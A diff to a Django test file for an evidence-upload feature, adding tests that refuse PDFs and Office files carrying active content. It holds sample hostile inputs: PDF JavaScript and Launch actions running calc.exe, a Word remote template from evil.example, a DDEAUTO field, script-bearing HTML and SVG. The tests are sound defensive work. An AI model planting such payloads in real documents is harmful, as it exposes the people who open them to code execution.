@@ -18,15 +18,13 @@ from portfolio import files
 from portfolio.files import UploadRefused, display_name, inspect_upload
 from portfolio.models import EvidenceFile, EvidenceItem
 from portfolio.views.evidence import attachment_header
+from tests.portfolio import documents
 from tests.portfolio.factories import EvidenceItemFactory
 
 pytestmark = pytest.mark.django_db
 
 ADD_URL = "/portfolio/evidence/add/"
-PDF = (
-    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
-    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
-)
+PDF = documents.pdf()
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 SVG = (
     b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
@@ -556,3 +554,102 @@ def test_an_unknown_owner_cannot_reach_another_file_through_a_guess(owner_client
     )
     assert response.status_code == 404
     assert stored_files(media) == []
+
+
+# --- active content: PDFs and Office files that act when an assessor opens them --------------
+
+ACTIVE_PDFS = {
+    "open-action": (
+        documents.pdf(catalog_extra=b"/OpenAction 4 0 R", objects=(b"<</S/GoTo/D[3 0 R]>>",)),
+        "runs an action when it is opened",
+    ),
+    "javascript": (
+        documents.pdf(
+            catalog_extra=b"/Names<</JavaScript 4 0 R>>",
+            objects=(b"<</Names[(x) 5 0 R]>>", b"<</S/JavaScript/JS(app.alert(1))>>"),
+        ),
+        "contains JavaScript",
+    ),
+    # The same name written with PDF's #xx escapes: still JavaScript.
+    "escaped-name": (
+        documents.pdf(
+            catalog_extra=b"/OpenAction 4 0 R",
+            objects=(b"<</S/J#61vaScript/J#53(app.alert(1))>>",),
+        ),
+        "runs an action when it is opened",
+    ),
+    "launch": (
+        documents.pdf(catalog_extra=b"/AA<</O 4 0 R>>", objects=(b"<</S/Launch/F(calc.exe)>>",)),
+        "runs actions when it is opened or read",
+    ),
+    "embedded-file": (
+        documents.pdf(catalog_extra=b"/Names<</EmbeddedFiles 4 0 R>>", objects=(b"<</Names[]>>",)),
+        "has other files hidden inside it",
+    ),
+    "unreadable": (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n", "could not be read"),
+}
+
+
+@pytest.mark.parametrize("case", ACTIVE_PDFS.keys())
+def test_a_pdf_that_acts_when_opened_is_refused(owner_client, media, case):
+    data, message = ACTIVE_PDFS[case]
+    response = upload(owner_client, SimpleUploadedFile("audit.pdf", data))
+    assert_refused(response, media, message)
+
+
+def test_a_pdf_with_only_a_link_is_accepted(owner_client, media):
+    link = documents.pdf(objects=(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://nhs.uk)>>>>",))
+    assert upload(owner_client, SimpleUploadedFile("audit.pdf", link)).status_code == 302
+
+
+OUTSIDE_OFFICE = {
+    "remote-template": (
+        {
+            "word/_rels/settings.xml.rels": documents.rels(
+                ("attachedTemplate", "https://evil.example/t.dotm", "External")
+            )
+        },
+        "loads a template from elsewhere",
+    ),
+    "linked-object": (
+        {
+            "word/_rels/document.xml.rels": documents.rels(
+                ("oleObject", "file://server/share/x.xlsx", "External")
+            )
+        },
+        "loads content from outside the file",
+    ),
+    "dde": (
+        {
+            "word/settings.xml": (
+                b'<w:settings><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:settings>'
+            )
+        },
+        "contains DDE fields",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", OUTSIDE_OFFICE.keys())
+def test_a_word_file_that_reaches_outside_itself_is_refused(owner_client, media, case):
+    parts, message = OUTSIDE_OFFICE[case]
+    response = upload(owner_client, SimpleUploadedFile("letter.docx", docx(parts)))
+    assert_refused(response, media, message)
+
+
+def test_an_excel_file_linked_to_other_workbooks_is_refused(owner_client, media):
+    buffer = io.BytesIO(xlsx())
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr("xl/externalLinks/externalLink1.xml", b"<externalLink/>")
+    response = upload(owner_client, SimpleUploadedFile("log.xlsx", buffer.getvalue()))
+    assert_refused(response, media, "links to other workbooks")
+
+
+def test_a_word_file_with_a_hyperlink_is_accepted(owner_client, media):
+    parts = {
+        "word/_rels/document.xml.rels": documents.rels(
+            ("hyperlink", "https://www.nhs.uk/", "External")
+        )
+    }
+    response = upload(owner_client, SimpleUploadedFile("letter.docx", docx(parts)))
+    assert response.status_code == 302
